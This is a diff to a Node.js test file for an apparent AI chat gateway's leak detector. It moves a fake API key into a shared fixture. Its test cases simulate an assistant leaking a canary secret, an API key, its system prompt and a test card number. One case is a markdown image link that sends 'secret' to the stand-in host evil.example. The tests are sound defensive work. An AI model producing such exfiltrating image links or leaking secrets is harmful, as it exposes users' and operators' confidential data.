@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { after, describe, test } from 'node:test';
 import { testDatabases } from './support/databases.ts';
+import { FAKE } from './support/fake-secrets.ts';
 import { adminGet, chat, chatJson, newConversationId, testGateway } from './support/gateway.ts';
 
 const CANARY = 'CANARY-env-7f3a9c2e1b';
@@ -10,7 +11,7 @@ const promptSpan = SYSTEM_PROMPT.split('\n').find((l) => l.split(' ').length > 1
 
 const LEAKS: Array<{ name: string; text: string; secret: string | RegExp; kind: string }> = [
   { name: 'a configured secret value', text: `Sure, the key is ${CANARY}.`, secret: CANARY, kind: 'secret_value' },
-  { name: 'an API key format', text: 'Use sk-proj-AbCdEf0123456789AbCdEf0123456789 to call it.', secret: 'sk-proj-AbCdEf0123456789', kind: 'secret_format' },
+  { name: 'an API key format', text: `Use ${FAKE.openaiProjectKey} to call it.`, secret: FAKE.openaiProjectKey.slice(0, 20), kind: 'secret_format' },
   { name: 'the system prompt verbatim', text: `My instructions say: ${promptSpan}`, secret: promptSpan, kind: 'system_prompt' },
   { name: 'a card number', text: 'Your card 4242 4242 4242 4242 was charged.', secret: '4242 4242 4242 4242', kind: 'card_number' },
   { name: 'a markdown image to an unknown host', text: 'Look: ![x](https://evil.example/pixel.png?d=secret)', secret: 'evil.example', kind: 'image' },
